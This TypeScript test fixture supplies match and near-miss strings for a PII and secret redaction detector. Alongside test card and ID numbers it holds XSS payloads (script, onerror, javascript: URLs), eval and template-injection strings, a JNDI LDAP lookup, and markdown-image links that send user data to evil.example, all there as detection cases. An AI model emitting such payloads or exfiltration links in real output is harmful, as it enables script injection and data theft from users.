import { commonSecrets } from '../../../src/rules/secrets.ts'
import { moreSecrets } from '../../../src/rules/secrets-more.ts'

/*
 * Per kind: texts in which `{` and `}` enclose what must go, and texts that must stay. Key-shaped strings are put together at run time.
 * Numbers are published test numbers or were made to fit their check digits.
 */

const a = (n: number): string => 'a1B2c3D4e5F6g7H8j9K0'.repeat(10).slice(0, n)
const h = (n: number): string => '0a1b2c3d4e5f6789'.repeat(20).slice(0, n)
const u = (n: number): string => 'A1B2C3D4E5F6G7H8'.repeat(10).slice(0, n)
const d = (n: number): string => '1234567890'.repeat(5).slice(0, n)
const pem = (name: string, body = 'MIIEpAIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF0qMD1DJ'): string =>
  `-----BEGIN ${name}-----\n${body}\n${body}\n-----END ${name}-----`
const uuid = '0a1b2c3d-4e5f-4678-9a1b-2c3d4e5f6789'
const b64url = (value: unknown): string => btoa(JSON.stringify(value)).replaceAll('=', '')
const jwt = (header: unknown): string => `${b64url(header)}.${b64url({ sub: '1234567890' })}.${a(43)}`

export interface Examples {
  readonly match: readonly string[]
  readonly near: readonly string[]
}

/** `{…}` in an example marks what goes; the braces themselves are not part of the text. Doubled braces stand for one. */
export const examples: Readonly<Record<string, Examples>> = {
  'pii/email': {
    match: [
      'write to «bob@example.com».',
      '<«jane.doe+news@mail.example.co.uk»>',
      '\u8054\u7cfb «\u7528\u6237@\u4f8b\u5b50.\u5e7f\u544a»',
      'mail «ana[at]example[dot]org» now',
      '«o\u2019neil»'.slice(0, 0) + "«o'neil@example.ie», please",
    ],
    near: [
      'icon@2x.png',
      'git@github',
      'bob@example.c',
      '@decorator.name',
      'npm i pkg@1.2.3',
      'a @ b.com',
      'user@localhost',
      'logo@dark.svg',
    ],
  },
  'pii/phone': {
    match: [
      'call «+1 (415) 555-2671» today',
      '«(212) 736-5000» or «212-736-5000»',
      '«1 (212) 736-5000» or «1-212-736-5000» or «212.736.5000»',
      'ring «+44 20 7946 0958»',
      'tel: «06 12 34 56 78»',
      'Mobile: «0171 1234567»',
      'phone number is «4673395»',
      '«+49 (0)30 901820»',
      'fax 415 «».'.slice(0, 0) + 'desk: «898-666-3621 x0135»',
    ],
    near: [
      'order 1234567890',
      'at 1700000000',
      '2024-01-02 10:20:30',
      'version 10.20.30.40',
      '123-456-78901',
      '+0 123 456 789',
      '01.02.2024',
      '978-3-16-148410-0',
      '555-2671',
      '1-115-736-5000 or 212-136-5000 or 1 (212) 136-5000',
    ],
  },
  'pii/ssn': {
    match: ['my SSN is «123-45-6789»', '«078 05 1121»', 'SSN: «219099998»', '«899-01-0001»,'],
    near: [
      '000-12-3456',
      '666-12-3456',
      '900-12-3456',
      '123-00-4567',
      '123-45-0000',
      '078-05-1120',
      '123-45-67890',
      '1123-45-6789',
      'order 123456789',
    ],
  },
  'pii/card': {
    match: [
      'paid with «4111111111111111»',
      '«4111 1111 1111 1111»',
      '«5555-5555-5555-4444»!',
      '«3782 822463 10005»',
      'card no. «30569309025904»',
      '«6011000990139424»',
      'credit card «630427373398» ok',
    ],
    near: [
      '4111111111111112',
      '4111 1111 1111 1112',
      '1234567812345678',
      '41111111111111111111',
      '4111-1111 1111-1111',
      '9780306406157',
      '1700000000000',
    ],
  },
  'pii/iban': {
    match: ['«GB82 WEST 1234 5698 7654 32»', 'IBAN «DE89370400440532013000»', '«fr1420041010050500013m02606».', '«NL91ABNA0417164300»,'],
    near: [
      'GB82 WEST 1234 5698 7654 33',
      'DE89370400440532013001',
      'GB82WEST123456987654',
      'XX82WEST12345698765432',
      'AGB82WEST12345698765432',
    ],
  },
  'secret/private-key': {
    match: [
      `key:\n«${pem('RSA PRIVATE KEY')}»\nend`,
      `«${pem('OPENSSH PRIVATE KEY')}»`,
      `«${pem('PGP PRIVATE KEY BLOCK', 'Version: GnuPG v2\n\nlQOYBF4Wm0EBCADZ')}»`,
      `«${pem('PRIVATE KEY').replaceAll('\n', '\\n')}» next`,
      `«${pem('PRIVATE KEY', 'MIIEpAIBAAKCAQEA')}»`,
    ],
    near: [pem('PUBLIC KEY'), pem('CERTIFICATE'), '-----BEGIN RSA PRIVATE KEY----- is how it starts', '-----BEGIN PRIVATE KEY-----'],
  },
  'secret/jwt': {
    match: [
      `token «${jwt({ alg: 'HS256', typ: 'JWT' })}»`,
      `«${jwt({ alg: 'RS256' })}». Next`,
      `"«${b64url({ alg: 'dir', enc: 'A128GCM' })}..${a(16)}.${a(40)}.${a(22)}»"`,
    ],
    near: [
      'eyJ',
      'eyJ.eyJ.x',
      `${b64url({ typ: 'x' })}.${b64url({ a: 1 })}.${a(20)}`,
      `x${jwt({ alg: 'HS256' })}`.replace('eyJ', 'eyj'),
      'eyJhbGciOiJIUzI1NiJ9',
    ],
  },
  'secret/connection-string': {
    match: [
      'postgres://app:«s3cr3t»@db.local:5432/main',
      'redis://:x@h amqp://guest:«hunter2»@mq',
      'https://user:«p4ss»@example.com/x',
      `Server=db;User=sa;Password=«${'Pa55w0rd'}»;Encrypt=true`,
      `Server=db;Password="«p@ss;w0rd»";Encrypt=true`,
      `DefaultEndpointsProtocol=https;AccountName=x;AccountKey=«${a(86)}==»;`,
      'mongodb+srv://u:«p@ss»@cluster0.example.net/db',
    ],
    near: [
      'http://localhost:3000/a@b',
      'https://example.com/@scope/pkg',
      'postgres://app:${PASSWORD}@db/x'.replace('$', '%'),
      'postgres://app:***@db/x',
      'ssh://git@github.com:22/x',
      'see https://a.b:c for d@e.f',
    ],
  },
  'secret/basic-credentials': {
    match: [
      `Basic «${btoa('user:hunter22')}»`,
      `Authorization: basic «${btoa('deploy:correct horse')}»`,
      `{"auths": {"registry.example": {"auth": "«${btoa('robot:hunter22')}»"}}}`,
      `{\\"auth\\":\\"«${btoa('robot:hunter22')}»\\"}`,
      `//registry.example/:_auth=«${btoa('robot:hunter2')}»`,
    ],
    near: [
      'basic training',
      'BASIC programs',
      `Basic ${btoa('nothing here')}`,
      `"auth": "${btoa('nothing here')}"`,
      '"auth": "none"',
      '"auth": "$AUTH"',
      'WWW-Authenticate: Basic realm="here"',
      `"author": "${btoa('a name: twice')}"`,
    ],
  },
  'secret/azure-client-secret': {
    match: [`«abc8Q~${a(34)}»`, `client_secret="«~x-7Q~${a(31)}»"`, `(«a.b1Q~${a(33)}»)`],
    near: ['abc8Q~short', `abc8q~${a(34)}`, `abcQ~${a(34)}`, `xabc8Q~${a(40)}`],
  },
  'aztp/OutputRisk_000': {
    match: [
      'a «<script>alert(1)</script>» b',
      '«<SCRIPT src="//evil/x.js"></SCRIPT >»',
      '«<img src=x onerror=alert(1)>»',
      '«<svg/onload=alert(1)>»',
      '«<script>» without an end',
      '«<body class="a" onload = "go()">» text',
    ],
    near: [
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      '<scripture>',
      '<img src="x.png" alt="on time">',
      'a < b and on = c',
      '<p class="x">on=1</p>',
    ],
  },
  'aztp/OutputRisk_001': {
    match: ['click «javascript:alert(1)»', '<a href="«javascript:void(0)»">', '[x](«JaVaScRiPt:fetch(1)»)', '«vbscript:msgbox(1)»'],
    near: ['JavaScript: The Good Parts', 'language:javascript', 'javascript', 'myjavascript:x', 'javascript:'],
  },
  'aztp/OutputRisk_002': {
    match: [
      '«data:text/html;base64,PHNjcmlwdD4=»',
      'src="«data:image/svg+xml;base64,PHN2Zz4=»"',
      '«data:text/html,<script>alert(1)</script>»',
      '«data:application/javascript;base64,YWxlcnQoMSk=»',
    ],
    near: [
      'data:image/png;base64,iVBORw0KGgo=',
      'data: text',
      'metadata:text/html,x',
      'data:application/pdf;base64,JVBERi0=',
      'data:,hello',
    ],
  },
  'aztp/OutputRisk_003': {
    match: ['run «eval(atob("x"))» now', '«eval(code)»', 'a;«eval("1+1")»;', 'then «eval(»'],
    near: ['medieval(x)', 'retrieval(query)', 'evaluate(x)', 'model.evals', 'my_eval(x)'],
  },
  'aztp/OutputRisk_004': {
    match: ['Hello «{{ user.name }}»', '«{{7*7}}»', 'a«{{constructor}}»b'],
    near: ['{"a":{"b":1}}', '{{}}', '{{ never closed', '{ {x} }', '{{a\nb}}'],
  },
  'aztp/OutputRisk_005': {
    match: ['cost «$' + '{price}»', '«$' + '{jndi:ldap://x/a}»', 'a«$' + '{7*7}»b'],
    near: ['$5 {x}', '$' + '{}', '$' + '{ never closed', '$(x)', '$' + '{a\nb}'],
  },
  'risk/exfiltration-link': {
    match: [
      `«![x](https://evil.example/p?data=${'c2VjcmV0IGRhdGE'}gaGVyZQ)» text`,
      `[see](«https://evil.example/${'?'}x=${a(48)}»)`,
      '<img src="«https://evil.example/log?q=the+user+said+this»">',
      '«![a](https://evil.example/{data}.png "t")» b',
      `![a][1]\n\n[1]: «https://evil.example/c?d=${a(44)}»\nnext`,
      `![a][x]\n[x]:«<https://evil.example/c?d=${a(44)}>» "title"`,
      `<img alt=x src=«https://evil.example/?data=${a(24)}»>`,
      `«![x]( https://evil.example/?data=${a(24)} )»`,
      `«![x](<https://evil.example/?data=${a(12)} ${a(12)}>)»`,
      `«![x](https://evil.example/(a)?data=${a(24)})» b`,
      `<img src="«https://evil.example/?a='b&data=the user said so»">`,
    ],
    near: [
      '![logo](https://img.example/a.png)',
      '![badge](https://img.shields.io/badge/build-passing-green?style=flat&logo=github)',
      '[docs](https://example.com/a/b?page=2&sort=asc)',
      '![x](./local/data?data=abcdefghijklmnop)',
      `[commit](https://github.com/o/r/commit/${h(40)})`,
      '[issues]: https://github.com/o/r/issues?q=is%3Aissue+is%3Aopen',
      `[commit]: https://github.com/o/r/commit/${h(40)}`,
      '<img src=https://img.example/a.png?w=100>',
      'type T = { [key: string]: https }',
    ],
  },

  // Packs
  'pii/uk-nino': {
    match: ['NI «AB123456C»', '«JG 10 37 59 A» x', '«SN123456D».'],
    near: ['BG123456A', 'AB123456E', 'DA123456A', 'AB12345C', 'ab123456c'],
  },
  'pii/uk-nhs': {
    match: ['NHS «943 476 5919»', '«943 476 5919»', 'nhs no: «9434765919»'],
    near: ['943 476 5918', 'order 9434765919', '111 111 1111', 'nhs 9434765910'],
  },
  'pii/fr-nir': {
    match: ['«1 85 05 78 006 084 91»', '«185057800608491»', 'nir: «1850578006084 91»'],
    near: ['1 85 05 78 006 084 90', '185057800608490', '185137800608491', '18505780060849'],
  },
  'pii/de-steuer-id': {
    match: ['Steuer-ID: «86095742719»', '«86 095 742 719»', 'IdNr. «47036892816»'],
    near: ['86095742718', 'steuer 86095742718', '11 111 111 111', '86095742719'],
  },
  'pii/es-dni': { match: ['DNI «12345678Z»', '«X1234567L»', '«12345678-Z»,'], near: ['12345678A', 'X1234567A', '123456789Z', '12345678z'] },
  'pii/it-codice-fiscale': {
    match: ['CF «RSSMRA85T10A562S»', '«rssmra85t10a562s» x', '«VRDLGU70A01H501O»'],
    near: ['RSSMRA85T10A562T', 'RSSMRA85X10A562S', 'RSSMRA85T10A562', 'XRSSMRA85T10A562S'],
  },
  'pii/nl-bsn': {
    match: ['BSN «111222333»', 'bsn: «123456782»', 'Burgerservicenummer «1112.22.333»'],
    near: ['111222333', 'bsn 111222334', 'bsn 1112223330', 'bsn 000000000'],
  },
  'pii/be-nrn': {
    match: ['«93.05.18-223.61»', 'rijksregister «93051822361»', 'NRN: «85.07.30-033.28»'],
    near: ['93.05.18-223.62', '93051822361', '93.15.18-223.61', 'nrn 93051822362'],
  },
  'pii/pl-pesel': {
    match: ['PESEL «44051401359»', 'pesel: «02070803628»', 'PESEL nr «92071314764»'],
    near: ['44051401359', 'pesel 44051401358', 'pesel 44991401359', 'pesel 4405140135'],
  },
  'pii/se-personnummer': {
    match: ['«811228-9874»', 'personnummer 8112289874'.replace('8112289874', '«8112289874»'), '«670919-9530»'],
    near: ['811228-9875', '813228-9874', '8112289874', '811228-98740'],
  },
  'pii/ca-sin': {
    match: ['«046-454-286»'.replace('046-454-286', '130-692-544'), 'SIN «130692544»', '«193 456 787»'],
    near: ['130-692-545', '130692544', '046 454 286', '130-692-5440'],
  },
  'pii/br-cpf': {
    match: ['«111.444.777-35»', 'CPF «11144477735»', '«529.982.247-25».'],
    near: ['111.444.777-34', '11144477735', '111.111.111-11', 'cpf 11144477736'],
  },
  'pii/in-aadhaar': {
    match: ['«2341 2341 2346»', 'Aadhaar «234123412346»', '«4991-1866-5246»'],
    near: ['2341 2341 2347', '234123412346', '1341 2341 2346', '2341 2341 23460'],
  },
  'pii/in-pan': {
    match: ['PAN «ABCPE1234F»', '«AAACT2727Q» x', '«ZZZPM9999K».'],
    near: ['ABCDE1234F', 'abcpe1234f', 'ABCPE12345', 'XABCPE1234F'],
  },
  'pii/cn-resident-id': {
    match: ['«11010519491231002X»', '«440524199001010018»', 'id «11010519491231002x»,'],
    near: ['110105194912310020', '110105194913310021', '110101199003072296', '1101051949123100'],
  },
  'pii/jp-my-number': {
    match: ['My Number: «123456789018»', 'mynumber «1234 5678 9018»', 'my number is «987654321093»'],
    near: ['123456789018', 'my number 123456789019', 'my number 111111111111', 'my number 12345678901'],
  },
  'pii/kr-rrn': {
    match: ['«900101-1234568»', 'RRN «9001011234568»', '«850315-2345678»'],
    near: ['900101-1234567', '901301-1234568', '9001011234568', '900101-12345680'],
  },
  'pii/au-tfn': {
    match: ['TFN «123456782»', 'tfn: «865 414 088»', 'tax file number «459 599 230»'],
    near: ['123456782', 'tfn 123456783', 'tfn 000000000', 'tfn 1234567820'],
  },
  'pii/tr-tckn': {
    match: ['TC Kimlik «10000000146»', 'tckn: «12345678950»', 'kimlik no «11111111110»'],
    near: ['10000000146', 'tckn 10000000147', 'tckn 01234567890', 'tckn 1000000014'],
  },
  'pii/za-id': {
    match: ['ID number «8001015009087»', 'id number: «9202204720083»', 'SA ID «7501015800081»'.replace('7501015800081', '8001015009087')],
    near: ['8001015009087', 'id number 8001015009088', 'id number 8013015009087', 'id number 800101500908'],
  },
  'pii/bic': {
    match: ['BIC: «DEUTDEFF»', 'SWIFT code «NEDSZAJJ123»'.replace('NEDSZAJJ123', 'NEDSZAJJXXX'), 'swift «BOFAUS3N».'],
    near: ['DEUTDEFF', 'BIC deutdeff', 'swift DEUTXXFF', 'BIC DEUTDEFF1'],
  },
  'pii/crypto-address': {
    match: [
      '«bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4»',
      '«0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed»',
      'bitcoin: «1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa»',
      'wallet «3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy»',
    ],
    near: [
      'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5',
      '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD',
      'bitcoin 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb',
      `0x${h(41)}`,
    ],
  },
  'pii/ip-address': {
    match: ['from «93.184.216.34»', '«2606:2800:220:1:248:1893:25c8:1946»', 'via «fe80::1ff:fe23:4567:890a», ok', '(«10.1.2.3»)'],
    near: ['v1.2.3.4', '1.2.3.4.5', '127.0.0.1', '256.1.1.1', '192.0.2.1', '10:20:30', 'std::vector', '1.2.3'],
  },
  'pii/mac-address': {
    match: ['«00:1a:2b:3c:4d:5e»', 'mac «AA-BB-CC-DD-EE-F0»,', '«d4:6d:6d:01:02:03» up'],
    near: ['00:00:00:00:00:00', '00:1a:2b:3c:4d', '00:1a:2b-3c:4d:5e', '00:1a:2b:3c:4d:5e:6f'],
  },
  'pii/geo-coordinates': {
    match: ['at «48.8584, 2.2945»', '«-33.8568, 151.2153»', 'geo: «51.50136 -0.14189» x'],
    near: ['3.14159', '48.8584, 200.2945', '95.1234, 2.2945', '1.2345'],
  },
  'pii/passport': {
    match: ['Passport no. «C01X00T47»', 'passport: «533380006»', 'passport number «AB1234567»'],
    near: ['C01X00T47', 'passport photo', 'passport expires 2031', 'passport ABCDEFGH'],
  },
  'pii/date-of-birth': {
    match: ['DOB: «1985-04-12»', 'born on «12 April 1985»', 'date of birth «12/04/1985», x', 'birthday: «April 12, 1985»'],
    near: ['1985-04-12', 'dob unknown', 'born in Paris', 'dob 1985-14-45'],
  },
  'pii/street-address': {
    match: [
      'lives at «221B Baker Street»',
      '«1600 Pennsylvania Ave»',
      'Address: «Hauptstr. 5, 10115 Berlin»\nx',
      'to «12 Old Mill Rd.» now',
    ],
    near: ['5 apples a day', '3 of the best streets', 'address: bob@example.com', '10 Downing', 'Address: unknown'],
  },
  'pii/spelled-email': {
    match: ['«bob at example dot com»', 'write «jane.doe [at] example [dot] org» now', '«a_b AT mail dot example dot net»'],
    near: ['look at example now', 'meet at noon', 'bob at example', 'at dot com'],
  },
  'risk/ansi-escape': { match: ['a«\u001b[31m»b', 'x«\u001b]0;title\u0007»y', '«\u001b[2J»'], near: ['[31m', 'a b', '\u241b[31m'] },
  'risk/hidden-characters': {
    match: [
      'a«\u200b»b',
      'ignore «\u{e0041}»this',
      '«\u202e»txt.exe',
      'x«\ufe0f\u{e0101}»'.replace('\ufe0f', ''),
      'price«\u2062\u2063»s \u{1f600}',
      'end«\u{e007f}»',
    ],
    near: [
      '\u{1f469}\u200d\u{1f4bb} and \u2764\ufe0f',
      '\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645',
      'soft\u00adhyphen',
      '\u05e9\u05dc\u05d5\u05dd\u200f!',
      '\udb40 alone',
    ],
  },
  'secret/aws-secret-key': {
    match: [
      `aws_secret_access_key = «${'wJalrXUtnFEMI/K7MDENG/bPxRfiCY'}${'EXAMPLEKEY'}»`,
      `"SecretAccessKey": "«${'Zq8'}${'kL2vR9tX5mN7pW3sYb6cD1fG4hJ0aQeUiOoPz'}»"`,
      `AWS_SECRET=«${'wJalrXUtnFEMI/K7MDENG/bPxRfiCY'}${'EXAMPLEKEY'}»`,
    ],
    near: [
      `aws_secret_access_key = ${'a'.repeat(40)}`,
      'aws_secret_access_key = short',
      `${'wJalrXUtnFEMI/K7MDENG/bPxRfiCY'}${'EXAMPLEKEY'}`,
      'aws_secret_access_key',
    ],
  },
  'secret/authorization-header': {
    match: [
      `Authorization: Bearer «${a(24)}»`,
      'curl -u bob:«hunter2» https://x',
      `"bearer «${h(32)}»"`,
      `Authorization: Token «${h(40)}»`,
      `authorization:  «${h(20)}»`,
      `curl -u ":«d2LkV78zLx!t»" https://x`,
      `curl -u "«d2LkV78zLx!t»:" https://x`,
      "curl --user  kevin:'«pRf7vG2h1L8nQkW9»' -iX PATCH",
    ],
    near: [
      'bearer of news',
      'Bearer <token>',
      'ls -u file',
      'curl -u user:password https://x',
      '`curl -u user:password`',
      'docker run -u 1000:1000 x',
      'docker run --user node:node x',
      'authorization: see RFC 9110',
    ],
  },
  'secret/password-assignment': {
    match: [
      'password = «hunter2»',
      '{"pwd": "«Tr0ub4dor&3»"}',
      "passphrase: '«correct horse».'".replace(" horse».'", "-horse»'"),
      'PASSWORD=«s3cr3t!»',
    ],
    near: [
      'password = process.env.PW',
      'password: string',
      'password = ******',
      'the password is forgotten',
      'password: <your password>',
      'password: required',
      'password: Optional[bytes]',
      'passphrase = cert.passphrase',
      '"pbkdf2-password": "1.2.1"',
    ],
  },
  'secret/key-assignment': {
    match: [`api_key = "«${a(32)}»"`, `"client_secret": "«${h(40)}»"`, `AUTH_TOKEN=«${a(24)}»`],
    near: [
      'token = "your-token-goes-here"',
      'key = value',
      `sha256 = "${h(64)}"`,
      `secret_key = "${'a'.repeat(32)}"`,
      'auth = getToken(request)',
      'bucket_key: "SalesResults-1.2"',
      'key="jetbrains.mps.v8_elimination"',
    ],
  },
  'secret/named-key': {
    match: [
      `DATADOG_APP="«${a(40)}»"`,
      `algolia => '«${a(32)}»'`,
      `heroku api key: «${uuid}»`,
      `os.Setenv("OKTA", "«00${a(40)}»")`,
      `twitter_access_token_secret: «${a(45)}»`,
    ],
    near: [
      `github.com/datadog/agent: ${h(40)}`,
      `heroku: ${uuid}`,
      `algolia => '${a(31)}'`,
      `okta = "${'x'.repeat(42)}"`,
      `rookTable = 00${a(40)}`,
      `linkedin: some-body-1234567`,
      `datadog ${a(40)}`,
    ],
  },
  'secret/terraform-token': {
    match: [`«${a(14)}.atlasv1.${a(64)}»`, `token = "«${a(14)}.atlasv1.${a(67)}»"`, `(«${a(14)}.atlasv1.${a(60)}»)`],
    near: [
      `${a(13)}.atlasv1.${a(64)}`,
      `${a(14)}.atlasv1.${a(59)}`,
      `${a(14)}.AtlasV1.${a(64)}`,
      `${'x'.repeat(14)}.atlasv1.${'x'.repeat(64)}`,
    ],
  },
  'secret/mailchimp-key': {
    match: [`«${h(32)}-us6»`, `key "«${h(32)}-us21»"`, `token: «${h(32)}-us1».`],
    near: [`${h(31)}-us6`, `${h(32)}-us211`, `${h(32)}-eu1`, 'en-us1'],
  },
  'secret/dropbox-long-token': {
    match: [`«${a(11)}${'A'.repeat(10)}${a(43)}»`, `"«${a(11)}${'A'.repeat(10)}${a(43)}»"`, `=«${a(11)}${'A'.repeat(10)}${a(43)}», x`],
    near: [`${a(10)}${'A'.repeat(10)}${a(43)}`, `${a(11)}${'A'.repeat(10)}${a(42)}`, `${a(11)}${'a'.repeat(10)}${a(43)}`, 'A'.repeat(64)],
  },
  'secret/maxmind-key': {
    match: [`«${a(6)}_${a(29)}_mmk»`, `"«${a(6)}_${a(29)}_mmk»"`, `license: «${a(6)}_${a(29)}_mmk».`],
    near: [`${a(6)}_${a(28)}_mmk`, `${a(6)}_${a(29)}_mmkx`, 'a_mmk', `${a(6)}_${a(29)}_MMK`],
  },
}

/** For kinds made from the tables of shapes, examples are made from the shapes. */
const alphabets: Readonly<Record<string, (n: number) => string>> = {
  a,
  h,
  d,
  u,
  l: (n) => h(n),
  w: (n) => a(n),
  b: (n) => a(n),
  s: (n) => a(n),
}

const shapesOf = new Map([...commonSecrets, ...moreSecrets].map(([name, , ...rows]) => [`secret/${name}`, rows]))

/** What must go and what must stay, for any kind of the product. */
export function examplesOf(kind: { readonly id: string }): Examples {
  return examples[kind.id] ?? shapeExamples(shapesOf.get(kind.id) ?? [])
}

/** Examples as they are written, shortest first. */
export function textsOf(kind: { readonly id: string }): string[] {
  return examplesOf(kind)
    .match.map((marked) => marked.replace(/[«»]/g, ''))
    .sort((one, other) => one.length - other.length)
}

function shapeExamples(shapes: readonly string[]): Examples {
  const match: string[] = []
  const near: string[] = []
  for (const shape of shapes) {
    const [prefix = '', ...parts] = shape.split(' ')
    const make = (short: boolean): string =>
      parts
        .map((part, i) => {
          const [, , letter, min] = /^(\??)([dhaulwbs])(\d+)(?:\+|-\d+)?$/.exec(part) ?? []
          if (letter === undefined) return part
          const cut = short && i === parts.findLastIndex((each) => /^\??[dhaulwbs]\d/.test(each)) ? 1 : 0
          return alphabets[letter]!(Math.max(0, Number(min) - cut))
        })
        .join('')
    const head = prefix[0] === '0' ? d(prefix.length) : prefix
    match.push(`«${head}${make(false)}»`, `key="«${head}${make(false)}»"`, `use «${head}${make(false)}» now`)
    near.push(head, `${head} ${make(false)}`)
    if (!head.includes('.') && /^\w/.test(head)) near.push(`x${head}${make(false)}`)
    if (!/[dhaulwbs]0-/.test(shape)) near.push(`${head}${make(true)}`)
  }
  return { match, near }
}
